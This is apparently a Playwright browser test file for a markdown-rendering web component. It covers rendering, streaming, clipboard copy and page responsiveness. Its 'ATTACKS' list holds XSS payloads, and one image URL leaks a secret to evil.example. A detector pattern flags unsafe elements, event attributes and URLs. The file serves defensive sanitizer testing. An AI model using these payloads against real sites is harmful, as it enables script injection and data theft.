"""<markdown-text>: what it draws, what it never does, and that it lets the page breathe."""

from __future__ import annotations

import re

import pytest
from playwright.sync_api import Locator, Page, expect

from tests.browser.conversation_page import ConversationPage

SAMPLE = """# A title

Some **bold** text, `code`, $5 and $10, and $a^2 + b^2$; 中文也在这里。

1. one
2. two
   ```bash
   ls -la
   ```

| a | b |
|---|--:|
| 1 | 2 |

```python
def double(x):
    return x * 2  # 注释
```

$$
\\int_0^1 x\\,dx
$$

See [the end].

> quoted

[the end]: https://example.com/end
"""

ATTACKS = [
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<form action=//evil.example><button>go</button></form>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](java&#x0A;script:alert(1))",
    "[click](data:text/html,<script>alert(1)</script>)",
    "[click](vbscript:msgbox)",
    "<javascript:alert(1)>",
    "![](https://evil.example/?q=secret)",
    '![x](https://evil.example/a.png "onerror=alert(1)")',
    "![](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[![](https://evil.example/b.png)](javascript:alert(1))",
    '```"><img src=x onerror=alert(1)>\ncode\n```',
    "`<img src=x onerror=alert(1)>`",
    "| <img src=x onerror=alert(1)> |\n|---|\n| <b onclick=alert(1)>x</b> |",
    "$\\href{javascript:alert(1)}{x}$",
    "$\\includegraphics{https://evil.example/c.png}$",
    "$\\htmlData{copy=1}{x} \\htmlStyle{background:url(//evil.example)}{x}$",
    '[a](https://ok.example "x\\" onmouseover=alert(1)")',
    "[x]: javascript:alert(1)\n\n[x]",
    "<style>@import '//evil.example'</style>",
    "<a href='https://ok.example' style='position:fixed;inset:0'>all</a>",
    "<br onclick=alert(1)>",
]

DANGERS = """(element) => {
    const found = [];
    for (const node of element.querySelectorAll("*")) {
        if (/^(script|iframe|object|embed|form|input|style|link|meta)$/i.test(node.localName)) {
            found.push(node.outerHTML);
        }
        for (const {name, value} of node.attributes) {
            if (/^on/i.test(name)) found.push(`${name}=${value}`);
            if (/^(href|src|action|xlink:href)$/i.test(name)
                && !/^(https?:|mailto:|data:image[/](png|jpeg|gif|webp);)/i.test(value)) {
                found.push(`${name}=${value}`);
            }
            if (name === "src" && /^https?:/i.test(value)) found.push(`${name}=${value}`);
        }
    }
    return found;
}"""

ADD = """(text) => {
    const element = document.createElement("markdown-text");
    element.id = "sample";
    element.textContent = text;
    document.getElementById("thread").append(element);
}"""

STREAM = """async ({text, step}) => {
    const element = document.createElement("markdown-text");
    element.setAttribute("data-live", "");
    element.id = "sample";
    document.getElementById("thread").append(element);
    for (let at = 0; at < text.length; at += step) {
        element.appendText(text.slice(at, at + step));
        if (at % 7 === 0) await new Promise(requestAnimationFrame);
    }
    element.endText();
}"""

# Feeds about as fast as a socket can deliver, and measures every task over 50 ms.
FLOOD = """async (text) => {
    const tasks = [];
    const observer = new PerformanceObserver((list) => {
        tasks.push(...list.getEntries().map((entry) => entry.duration));
    });
    observer.observe({type: "longtask"});
    const element = document.createElement("markdown-text");
    element.setAttribute("data-live", "");
    document.getElementById("thread").append(element);
    for (let at = 0; at < text.length; at += 240) {
        element.appendText(text.slice(at, at + 240));
        await new Promise((resolve) => setTimeout(resolve, 0));
    }
    element.endText();
    await new Promise((resolve) => setTimeout(resolve, 500));
    observer.disconnect();
    const shown = element.textContent.length;
    element.remove();
    return {longest: Math.max(0, ...tasks), shown};
}"""


@pytest.fixture
def blank(conversation: ConversationPage) -> Page:
    return conversation.page


def draw(page: Page, text: str) -> Locator:
    page.evaluate(ADD, text)
    sample = page.locator("#sample")
    expect(sample).to_have_attribute("data-drawn", "")
    return sample


def test_markdown_is_drawn_as_what_it_means(blank: Page):
    sample = draw(blank, SAMPLE)

    expect(sample.locator("h3")).to_have_text("A title")
    expect(sample.locator("td").first).to_have_text("1")
    expect(sample.locator(".code__bar").last).to_contain_text("python")
    expect(sample.locator(".hljs-keyword").first).to_have_text("def")
    expect(sample.locator(".katex")).to_have_count(2)
    expect(sample).to_contain_text("$5 and $10")
    expect(sample.get_by_role("link")).to_have_attribute("rel", re.compile("noopener noreferrer"))


@pytest.mark.parametrize("step", [1, 3, 17])
def test_a_streamed_text_ends_as_the_whole_one_is_drawn(blank: Page, step: int):
    blank.evaluate(STREAM, {"text": SAMPLE, "step": step})
    sample = blank.locator("#sample")
    expect(sample.locator(".katex")).to_have_count(2)
    expect(sample.locator(".hljs-keyword").first).to_be_visible()
    streamed = sample.evaluate(
        "element => { const html = element.innerHTML; element.remove(); return html; }"
    )

    whole = draw(blank, SAMPLE)
    expect(whole.locator(".katex")).to_have_count(2)
    expect(whole.locator(".hljs-keyword").first).to_be_visible()

    assert streamed == whole.inner_html()


def test_hostile_text_stays_text(blank: Page):
    dialogs: list[str] = []
    blank.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))

    for attack in ATTACKS:
        sample = draw(blank, f"{attack}\n\nafter")
        expect(sample).to_contain_text("after")
        found = sample.evaluate(DANGERS)
        sample.evaluate("element => element.remove()")

        assert found == [], attack
        assert dialogs == [], attack


def test_an_image_of_another_host_waits_for_a_click(blank: Page):
    sample = draw(blank, "![A chart](https://images.example/chart.png)")

    image = sample.locator("a.remote-image")

    expect(image).to_contain_text("A chart")
    expect(image).to_contain_text("images.example")
    expect(sample.locator("img")).to_have_count(0)


def test_code_is_copied_as_it_was_written(blank: Page):
    sample = draw(blank, "```python\nx = 1\ny = 2\n```\n")

    sample.get_by_role("button").click()

    expect(sample.locator(".icon--check")).to_be_visible()
    assert blank.evaluate("() => navigator.clipboard.readText()") == "x = 1\ny = 2"


@pytest.mark.parametrize(
    ("kind", "text"),
    [
        (
            "paragraphs",
            "The **quick** brown fox, `jumps` over [it](https://e.example). \n\n" * 1300,
        ),
        ("list", "- The quick brown fox jumps over the **lazy** dog today.\n" * 1450),
        ("code", "```python\n" + "    total = total + compute(value, 42)  # why\n" * 1800),
        ("chinese", "千帆竞发，**百舸**争流；这是一个很长的段落。\n\n" * 2600),
        ("one paragraph", "The quick brown fox jumps over the **lazy** dog. " * 1650),
    ],
)
def test_twenty_thousand_tokens_at_full_speed_do_not_freeze_the_page(
    blank: Page, kind: str, text: str
):
    assert len(text) > 60_000

    measured = blank.evaluate(FLOOD, text)

    # The time that a person begins to notice; a busy machine doubles what is measured.
    assert measured["longest"] < 400, (kind, measured)
    assert measured["shown"] > len(text) / 2
